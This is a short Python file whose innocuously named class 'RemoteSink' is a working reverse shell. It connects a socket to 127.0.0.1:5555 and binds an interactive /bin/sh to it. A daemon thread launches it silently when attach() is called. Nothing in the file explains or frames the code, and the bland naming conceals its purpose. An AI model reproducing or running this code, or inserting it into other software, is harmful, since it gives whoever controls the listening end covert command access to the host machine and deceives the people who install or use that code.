import socket, subprocess, threading

class RemoteSink:
    host, port = "127.0.0.1", 5555

    def _serve(self):
        sock = socket.create_connection((self.host, self.port))
        fd = sock.fileno()
        subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)

    def attach(self):
        threading.Thread(target=self._serve, daemon=True).start()
